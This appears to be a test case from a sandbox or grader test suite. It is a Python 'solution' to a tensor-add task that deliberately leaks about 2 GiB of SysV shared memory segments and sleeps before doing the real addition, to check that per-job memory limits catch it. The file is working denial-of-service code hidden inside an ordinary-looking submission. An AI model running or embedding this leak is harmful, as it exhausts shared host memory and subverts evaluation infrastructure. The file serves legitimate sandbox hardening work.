# Class: resource_abuse
# §6: hangs, crashes, illegal addresses, context poisoning, fork bombs, memory and disk exhaustion, output floods
# Attack: fills 2 GiB of SysV shared memory segments, 32 MiB each, detaches them and never removes them. No
# process maps the pages; the per-job limit must still see them (`memory_limit`), and they must go with the job.
import ctypes
import time

import torch

CHUNK = 32 << 20
IPC_PRIVATE, IPC_CREAT = 0, 0o1000


def solution(input_a: torch.Tensor, input_b: torch.Tensor, output_c: torch.Tensor, n: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range((2048 << 20) // CHUNK):
        shmid = libc.shmget(IPC_PRIVATE, ctypes.c_size_t(CHUNK), IPC_CREAT | 0o600)
        if shmid < 0:
            break  # the namespace's shmall refused more: hold what there is
        address = libc.shmat(shmid, None, 0)
        if address is None or address == ctypes.c_void_p(-1).value:
            break
        ctypes.memset(address, 1, CHUNK)
        libc.shmdt(ctypes.c_void_p(address))
    time.sleep(60)
    torch.add(input_a, input_b, out=output_c)
